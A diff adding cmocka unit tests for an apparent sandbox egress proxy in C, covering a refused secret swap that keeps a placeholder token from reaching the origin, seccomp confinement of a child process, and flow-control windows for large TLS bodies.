+	assert_true(pid >= 0);
+	if (pid == 0) {
+		_exit(confined_child());
+	}
+	assert_int_equal(waitpid(pid, &st, 0), pid);
+	if (WIFSIGNALED(st)) {
+		fail_msg("the confined child was killed by signal %d (SIGSYS: a syscall the supervisor's filter lacks)",
+			 WTERMSIG(st));
+	}
+	assert_true(WIFEXITED(st));
+	assert_int_equal(WEXITSTATUS(st), 0);
+}
+
+/* The daemon could not keep the use (secret_ok false): the request is refused, the value never sent. */
+static void test_inspect_swap_refused(void **state)
+{
+	struct supmsg m, no = { .op = SUPMSG_SECRET_OK, .ok = false, .message = "the signer is gone" };
+	int64_t conn;
+	(void)state;
+
+	d_secrets();
+	conn = inspected(37, X.origin);
+	g_send("GET / HTTP/1.1\r\nHost: example.com\r\nAuthorization: token " GH_PLACEHOLDER "\r\n\r\n");
+	d_recv(&m, SUPMSG_SECRET_USE);
+	supmsg_release(&m);
+	no.conn = conn;
+	d_answer(&no, -1);
+	until_has(&X.gplain, "Tkbox-Rule: swap-refused\r\n");
+	d_recv(&m, SUPMSG_EGRESS_DONE);
+	assert_string_equal(m.rule, "swap-refused");
+	supmsg_release(&m);
+	for (int i = 0; i < 20; i++) {
+		step();
+	}
+	assert_int_equal(buf_len(&X.oplain), 0);
+	assert_true(X.o_eof);
+}
+
+/*
+ * One turn of the supervisor's loop as it runs for a box: the proxy is
+ * handled only when a polled fd fired or egress_sup_pending said so (a
+ * timeout's turn would hide a missed wake-up). True when it was handled.
+ */
+static bool woken_turn(void)
+{
+	struct pollfd p[EGRESS_SUP_POLL_MAX];
+	size_t n = egress_sup_fill(T.e, p, ARRAY_SIZE(p));
+	bool pending = egress_sup_pending(T.e);
+
+	if (poll(p, n, pending ? 0 : 5) <= 0 && !pending) {
+		return false;
+	}
+	T.rc = egress_sup_handle(T.e, p, n);
+	return true;
+}
+
+/*
+ * The guest forwarder's grant (src/guest/egress.c grant()) with a client
+ * slower than the proxy: it reads what came only once the window is used,
+ * and the forwarder grants again up to window once a quarter of it is free.
+ */
+static bool g_grant(uint32_t id, size_t window, size_t *unread)
+{
+	const struct egress_stream *st = egress_mux_find(&T.gm, id);
+	struct egress_frame f = { .type = EGRESS_WINDOW, .id = id };
+	size_t held;
+
+	if (!st) {
+		return false;
+	}
+	if (st->credit[EGRESS_FROM_HOST] == 0) {
+		*unread = 0;
+	}
+	held = *unread + st->credit[EGRESS_FROM_HOST];
+	if (held + window / 4 > window) {
+		return false;
+	}
+	f.credit = (uint32_t)(window - held);
+	g_frame(&f);
+	return true;
+}
+
+/*
+ * A body of many windows through an inspected conn, the guest granting as
+ * the real forwarder does: it all arrives with the proxy woken only by its
+ * fds and egress_sup_pending (a timeout's turn would hide a missed wake-up).
+ * Bytes held in a stage (down_plain, x->down) while nothing polled will fire
+ * is a stall: the guest grants again only once a quarter of its window is
+ * used, and the origin is not read while a stage holds bytes.
+ */
+static void big_body(uint32_t id, size_t window, unsigned every)
+{
+	static const char req[] = "GET /big HTTP/1.1\r\nHost: example.com\r\n\r\n";
+	const size_t body = (size_t)6 << 20;
+	struct buf wire;
+	uint8_t chunk[16384], rb[65536];
+	char head[128];
+	size_t head_len, written = 0, got = 0, unread = 0;
+	int idle = 0;
+	unsigned round = 0;
+
+	d_secrets();
+	(void)inspected(id, X.origin);
+	g_send(req);
+	until_has(&X.oplain, "\r\n\r\n");
+	buf_reset(&X.gplain);
+	head_len = (size_t)snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n", body);
+	assert_int_equal(egress_tls_write(X.o, (const uint8_t *)head, head_len), 0);
+	for (size_t i = 0; i < sizeof(chunk); i++) {
+		chunk[i] = (uint8_t)('a' + i % 26);
+	}
+	assert_int_equal(buf_init(&wire, (size_t)1 << 20, 0), 0);
+	/*
+	 * Each round: the proxy if woken, then the box (its port read every
+	 * every-th round) and the origin; three rounds that read the port where
+	 * nothing moves end it.
+	 */
+	while (got < head_len + body && idle < 3) {
+		struct egress_frame f;
+		bool moved = woken_turn(), reads = ++round % every == 0;
+		ssize_t n;
+
+		buf_reset(&X.tmp);
+		assert_true(egress_tls_take(X.g, &X.tmp) >= 0);
+		if (buf_len(&X.tmp) > 0) {
+			g_data(X.gid, buf_ptr(&X.tmp), buf_len(&X.tmp));
+			moved = true;
+		}
+		while (reads && g_poll(&f)) {
+			assert_int_equal(f.type, EGRESS_DATA);
+			assert_int_equal(egress_tls_put(X.g, f.data, f.len), 0);
+			assert_true(egress_tls_read(X.g, &X.gplain, buf_avail(&X.gplain)) >= 0);
+			got += buf_len(&X.gplain);
+			buf_reset(&X.gplain);
+			unread += f.len;
+			moved = true;
+		}
+		moved = g_grant(X.gid, window, &unread) || moved;
+		while (written < body && buf_avail(&wire) >= 2 * sizeof(chunk)) {
+			size_t k = MIN(sizeof(chunk), body - written);
+			assert_int_equal(egress_tls_write(X.o, chunk, k), 0);
+			written += k;
+			assert_true(egress_tls_take(X.o, &wire) >= 0);
+		}
+		n = buf_len(&wire) > 0 ? send(X.ofd, buf_ptr(&wire), buf_len(&wire), MSG_DONTWAIT | MSG_NOSIGNAL) : 0;
+		if (n > 0) {
+			assert_int_equal(buf_consume(&wire, (size_t)n), 0);
+			moved = true;
+		}
+		while ((n = recv(X.ofd, rb, sizeof(rb), MSG_DONTWAIT)) > 0) {
+			assert_int_equal(egress_tls_put(X.o, rb, (size_t)n), 0);
+		}
+		idle = moved ? 0 : idle + (reads ? 1 : 0);
+	}
+	buf_release(&wire);
+	if (got < head_len + body) {
+		fail_msg("stalled after %zu of %zu bytes: bytes wait in the proxy and nothing it polls will fire", got,
+			 head_len + body);
+	}
+	assert_int_equal(T.rc, 0);
+}
+
+/* The guest's own window: t_pump stopped once x->down went to the guest, down_plain still full. */
+static void test_inspect_big_body(void **state)
+{
+	(void)state;
+	big_body(39, GUEST_EGRESS_WINDOW, 1);
+}
+
+/*
+ * A window past the port queue's EGRESS_SUP_OUT_DATA_MAX and a guest that
+ * reads its port in bursts: the queue, not the credit, stops the bytes;
+ * egress_sup_handle pumps while it is full, then port_flush empties it, and
+ * the credit left brings no WINDOW. The port takes the whole queue at once
+ * but not the window: SO_SNDBUF 1.25 MiB (the kernel doubles it).
+ */
+static void test_inspect_big_window(void **state)
+{
+	int want = 5 << 18, have = 0;
+	socklen_t len = sizeof(have);
+	(void)state;
+
+	if (setsockopt(T.port[0], SOL_SOCKET, SO_SNDBUFFORCE, &want, sizeof(want)) < 0) {
+		(void)setsockopt(T.port[0], SOL_SOCKET, SO_SNDBUF, &want, sizeof(want));
+	}
+	assert_int_equal(getsockopt(T.port[0], SOL_SOCKET, SO_SNDBUF, &have, &len), 0);
+	if ((size_t)have < 2 * EGRESS_SUP_OUT_DATA_MAX) {
+		skip(); /* net.core.wmem_max below 1 MiB and no CAP_NET_ADMIN: the port cannot take the queue at once */
+	}
+	big_body(41, (size_t)8 << 20, 32);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -1141,6 +2065,21 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_server_first_eof, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_stream_limit, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_empty_stream, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_inspect_swap, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_leak, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_upstream_untrusted, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_before_secrets, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_stop_drops_swap, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_selftest, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_selftest_no_ca, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_absolute_leak, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_absolute_body_leak, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_sni_mismatch, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_model_call, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_confined_tls, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_swap_refused, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_big_body, setup_tls, teardown_tls),
+		cmocka_unit_test_setup_teardown(test_inspect_big_window, setup_tls, teardown_tls),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
